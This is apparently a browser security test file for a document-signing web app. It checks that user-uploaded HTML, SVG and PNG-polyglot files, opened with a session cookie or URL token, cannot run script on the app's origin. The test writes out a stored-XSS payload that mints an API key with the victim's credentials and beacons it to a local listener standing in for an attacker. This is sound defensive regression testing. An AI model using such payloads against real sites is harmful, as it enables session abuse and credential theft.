import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, it } from 'node:test';
import type { Browser } from 'playwright-core';
import { TOKEN_COOKIE } from '../../src/http/authentication.js';
import { freePort } from '../helpers/free-port.js';
import { PNG_1PX } from '../helpers/pdf.js';
import { aUser, withMail } from '../helpers/people.js';
import { upload } from '../helpers/server.js';
import { anExternalShare } from '../helpers/sharing.js';
import { useServer } from '../helpers/use-server.js';
import { ensureBuiltPage, hasChromium, inSession, launchChromium } from './browser.js';

/**
 * Issue 37, item 1, in the browser that would run it: as a signed-in user (session cookie, and the
 * token in the address), open every route that answers user bytes, with an HTML and an SVG payload
 * uploaded by each kind of uploader. The payload tries what the reported page did (mint an API key
 * and send it away, here to a listener of the test's own): nothing may reach the listener and no key
 * may be made.
 */
describe(
  'DESIGN, files answered to a browser: no uploaded script runs on our origin, in Chromium (issue 37, item 1)',
  {
    skip: hasChromium
      ? false
      : 'Debian’s chromium is not installed at /usr/bin/chromium: browser test skipped',
  },
  () => {
    const server = useServer({ smtp: true });
    let browser: Browser;
    let listener: Server;
    let heard = 0;
    let beacon = '';
    before(async () => {
      browser = await launchChromium();
      listener = createServer((_request, response) => {
        heard += 1;
        response.end('ok');
      });
      await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
      beacon = `http://127.0.0.1:${(listener.address() as AddressInfo).port}/heard`;
    });
    after(async () => {
      await browser?.close();
      listener?.close();
    });

    const script = () =>
      `new Image().src=${JSON.stringify(beacon)};fetch("/api/v1/api/key",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:"{}"}).then(r=>r.text()).then(t=>fetch(${JSON.stringify(beacon)}+"?k="+encodeURIComponent(t),{mode:"no-cors"}))`;
    const payloads = () => [
      {
        name: 'page.html',
        type: 'text/html',
        bytes: Buffer.from(`<!doctype html><script>${script()}</script>`),
      },
      {
        name: 'image.svg',
        type: 'image/svg+xml',
        bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg"><script>${script()}</script></svg>`),
      },
      {
        name: 'stamp.png',
        type: 'text/html',
        bytes: Buffer.concat([PNG_1PX, Buffer.from(`<script>${script()}</script>`)]),
      },
    ];

    it('opened with the session cookie or with the token in the address, no uploaded HTML or SVG runs: nothing is heard, no key is made', async () => {
      const user = await aUser(server, withMail('victim'));
      const keysBefore = (await server.api('GET', '/api/key', { token: user.token })).text;
      // Every uploader kind and the route that answers its bytes: a user's own upload, a recipient's
      // file and a recipient's stamp.
      const urls: { url: string; token: string }[] = [];
      const shared = await anExternalShare(server, user.token, {
        title: 'Target',
        pdf: null,
        email: 'uploader@example.org',
        // The recipient attaches files (any bytes) to the document: the share right uploadFiles.
        recipient: { rights: ['uploadFiles'] },
      });
      for (const file of payloads()) {
        const own = await upload(server, user.token, file.bytes, { name: file.name, type: file.type });
        urls.push({ url: `/api/v1/files/loadFile/hash/${own}`, token: user.token });
        const theirs = await server.api('POST', '/share/upload/file', {
          token: shared.link,
          form: { fields: { attach: 'true' }, file },
        });
        assert.equal(theirs.status, 200, theirs.text);
        urls.push({ url: `/api/v1/files/loadFile/hash/${theirs.body.file.id}`, token: shared.link });
        const stamp = await server.api('POST', '/share/upload/stamp', {
          token: shared.link,
          form: { fields: { name: 'Seal' }, file },
        });
        if (stamp.status === 200)
          urls.push({ url: `/api/v1/share/stamp/${stamp.body.id}`, token: shared.link });
        else assert.equal(stamp.status, 400, stamp.text);
      }
      // A stamp must be a whole image (PNG bytes followed by a page are refused above): a real PNG
      // declared text/html is what a stamp route can still be asked to answer.
      const stamp = await server.api('POST', '/share/upload/stamp', {
        token: shared.link,
        form: { fields: { name: 'Seal' }, file: { name: 'stamp.html', type: 'text/html', bytes: PNG_1PX } },
      });
      assert.equal(stamp.status, 200, stamp.text);
      urls.push({ url: `/api/v1/share/stamp/${stamp.body.id}`, token: shared.link });
      assert.ok(urls.length >= 7, `${urls.length} routes`);

      const context = await browser.newContext();
      await context.addCookies([{ name: TOKEN_COOKIE, value: user.token, url: server.url }]);
      const page = await context.newPage();
      const opened: string[] = [];
      for (const { url, token } of urls) {
        for (const address of [`${server.url}${url}`, `${server.url}${url}?token=${token}`]) {
          // A file answered as an attachment is a download, which is no page: goto says so.
          const response = await page.goto(address).catch((error: Error) => error.message);
          opened.push(typeof response === 'string' ? response.split('\n')[0]! : String(response?.status()));
          await page.waitForTimeout(300);
        }
      }
      await context.close();
      assert.equal(heard, 0, `a payload ran: ${opened.join(', ')}`);
      assert.equal((await server.api('GET', '/api/key', { token: user.token })).text, keysBefore);
    });

    it('the test can fail: the same payload served as a page by the listener itself runs and is heard', async () => {
      const page = await browser.newPage();
      const before = heard;
      await page.setContent(`<script>new Image().src=${JSON.stringify(beacon)}</script>`);
      await page.waitForTimeout(300);
      await page.close();
      assert.ok(heard > before, 'the payload’s beacon works when script runs');
      heard = before;
    });
  },
);

/**
 * FILES_PUBLIC_URL in the browser (DESIGN, "Files answered to a browser"): the API at
 * http://127.0.0.1:<port>, downloads at http://localhost:<port>. A signed-in user who opens an
 * uploaded page lands on the files origin, where nothing of ours runs and no credential is; the
 * signer page still shows the document, fetched from there.
 */
describe(
  'DESIGN, FILES_PUBLIC_URL: downloads open on the files origin, and the signer page reads the document from it, in Chromium (issue 37)',
  {
    skip: hasChromium
      ? false
      : 'Debian’s chromium is not installed at /usr/bin/chromium: browser test skipped',
  },
  () => {
    let port = 0;
    before(async () => {
      ensureBuiltPage();
      port = await freePort();
    });
    const server = useServer(() => ({
      smtp: true,
      port,
      env: { PUBLIC_URL: `http://127.0.0.1:${port}`, FILES_PUBLIC_URL: `http://localhost:${port}` },
    }));
    let browser: Browser;
    before(async () => {
      browser = await launchChromium();
    });
    after(async () => {
      await browser?.close();
    });

    it('an uploaded page opened with the session cookie lands on the files origin, inert: it reaches no API and makes no key', async () => {
      const user = await aUser(server, withMail('victim'));
      const keysBefore = (await server.api('GET', '/api/key', { token: user.token })).text;
      const page = Buffer.from(
        '<!doctype html><script>fetch("/api/v1/api/key",{method:"POST",credentials:"include",headers:{"content-type":"application/json"},body:"{}"})</script>',
      );
      const id = await upload(server, user.token, page, { name: 'page.html', type: 'text/html' });
      const context = await browser.newContext({ acceptDownloads: true });
      await context.addCookies([{ name: TOKEN_COOKIE, value: user.token, url: server.url }]);
      const tab = await context.newPage();
      const landed: string[] = [];
      tab.on('request', (request) => landed.push(request.url()));
      const [download] = await Promise.all([
        tab.waitForEvent('download'),
        tab.goto(`${server.url}/api/v1/files/loadFile/hash/${id}`).catch(() => undefined),
      ]);
      assert.ok(download.url().startsWith(`http://localhost:${port}/f/`), download.url());
      await tab.waitForTimeout(300);
      await context.close();
      assert.ok(!landed.some((url) => url.includes('/api/key')), landed.join(', '));
      assert.equal((await server.api('GET', '/api/key', { token: user.token })).text, keysBefore);
    });

    it('the signer page shows the document, its bytes fetched from the files origin, with no policy violation', async () => {
      const owner = await aUser(server, withMail('owner'));
      const shared = await anExternalShare(server, owner.token, {
        title: 'Files origin agreement',
        email: 'reader@example.org',
      });
      await inSession(browser, 'files-origin', 'desktop', async (s) => {
        const fetched: string[] = [];
        s.page.on('requestfinished', (request) => fetched.push(request.url()));
        await s.page.goto(`${server.url}/s/${shared.link}`);
        await s.page.getByRole('heading', { name: 'Files origin agreement' }).waitFor();
        await s.page.locator('.page[data-rendered]').first().waitFor();
        assert.ok(
          fetched.some((url) => url.startsWith(`http://localhost:${port}/f/`)),
          `the document came from the files origin: ${fetched.join(', ')}`,
        );
      });
    });
  },
);
